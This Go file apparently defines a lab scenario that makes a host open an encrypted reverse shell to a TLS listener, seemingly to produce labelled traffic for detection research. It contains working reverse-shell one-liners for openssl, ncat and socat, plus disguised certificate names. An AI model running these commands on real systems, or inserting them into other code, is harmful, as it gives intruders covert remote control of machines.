// Package revshelltls is a reverse shell inside TLS.
package revshelltls

import (
	"context"
	_ "embed"
	"fmt"
	"regexp"
	"strings"
	"time"

	"tyto/lab"
	"tyto/lab/c2"
	"tyto/lab/label"
	"tyto/lab/pki"
)

// Scenario opens a shell to a TLS listener, where somebody types.
var Scenario = lab.Scenario{
	Name:       "revshell-tls",
	Doc:        "A host hands its shell to a listener inside TLS, and an intruder types there. Teaches who leads, by lines and by keys, when only sizes and times are left.",
	Labels:     []label.Label{label.ReverseShell},
	Techniques: []string{"T1059.004", "T1573.002"},
	Twin:       "web-terminal",
	Hosts:      []string{"client", "server"},
	Variants: []lab.Variant{
		variant("openssl", "openssl"), variant("openssl", "ncat"), variant("openssl", "socat"), variant("ncat", "ncat"), variant("ncat", "openssl"),
		variant("socat", "socatraw"), variant("socat", "openssl"), variant("python", "socatraw"), variant("python", "ncat"),
	},
	Params: append(c2.ShellParams(), c2.PortParam(),
		lab.Param{Name: "key", Doc: "of the listener's certificate", Values: []string{"ecdsa", "rsa"}},
		lab.Param{Name: "tls", Doc: "version", Values: []string{"1.2", "1.3", "1.3"}},
		lab.Param{Name: "name", Doc: "in the listener's certificate", Values: []string{"update.example.net", "www.example.org", "cdn-sync.example", "localhost"}}),
	Limit: 12 * time.Minute,
	Run:   run,
}

var programs = map[string]string{"openssl": "openssl", "ncat": "ncat", "socat": "socat", "socatraw": "socat", "python": "/usr/bin/python3"}

func variant(client, server string) lab.Variant {
	return lab.Variant{Name: client + "-" + server, Needs: []string{programs[client], programs[server], "openssl", "ss", "ps"}}
}

// listeners wait on port $1 with a certificate; the last sends keys, the
// others lines.
var listeners = map[string]string{
	"openssl":  `exec openssl s_server -brief -accept "$1" -cert cert.pem -key cert.key -naccept 1`,
	"ncat":     `exec ncat --ssl --ssl-cert cert.pem --ssl-key cert.key -lvn "$1"`,
	"socat":    `cat cert.pem cert.key >both; exec socat -d -d - openssl-listen:"$1",reuseaddr,cert=both,verify=0`,
	"socatraw": `cat cert.pem cert.key >both; exec socat -d -d -,rawer openssl-listen:"$1",reuseaddr,cert=both,verify=0`,
}

// connected is what they say of a connection.
var connected = regexp.MustCompile(`Ciphersuite: .*\n|Connection from [0-9.]+:[0-9]+\.\r?\n|starting data transfer loop.*\n`)

// openers connect to port $2 of address $1 with TLS $3. A terminal is there
// with python and socat only.
var openers = map[string]string{
	"openssl": `mkfifo /tmp/s; bash -i </tmp/s 2>&1 | openssl s_client -quiet -no_ign_eof -nocommands -tls${3/./_} -connect "$1":"$2" >/tmp/s 2>/dev/null`,
	"ncat":    `exec ncat --ssl -e /bin/bash "$1" "$2"`,
	"socat":   `exec socat exec:"bash -i",pty,stderr,setsid,sigint,sane openssl:"$1":"$2",verify=0,openssl-min-proto-version=TLS$3,openssl-max-proto-version=TLS$3`,
	"python":  `exec /usr/bin/python3 pty-over-tls.py "$1" "$2" "$3"`,
}

// ptyOverTLS relays between a terminal and a TLS connection, on hosts of the
// lab only.
//
//go:embed pty-over-tls.py
var ptyOverTLS string

func run(ctx context.Context, r *lab.Run) error {
	client, server := r.Host("client"), r.Host("server")
	opener, listener, _ := strings.Cut(r.Variant(), "-")
	r.Installed(client, programs[opener])
	r.Installed(server, programs[listener])
	if opener == "ncat" {
		r.SetParam("tls", "1.3") // it cannot be told
	}
	authority, err := pki.New(r, r.Param("name"))
	if err != nil {
		return err
	}
	cert, err := authority.Issue(r.Param("key"), r.Param("name"))
	if err != nil {
		return err
	}
	if err := cert.Write(server, "cert"); err != nil {
		return err
	}
	if err := client.Write("pty-over-tls.py", ptyOverTLS, 0o644); err != nil {
		return err
	}
	port := r.Param("port")
	return c2.Shell{
		Listener:  lab.Command{Args: []string{"sh", "-c", listeners[listener], "sh", port}},
		Port:      r.ParamInt("port"),
		Client:    lab.Command{Args: []string{"bash", "-c", openers[opener], "bash", fmt.Sprint(server.Addr()), port, r.Param("tls")}},
		Connected: connected,
		Early:     listener == "ncat",
		Dumb:      listener != "socatraw",
		Encrypted: true,
	}.Work(ctx, r)
}
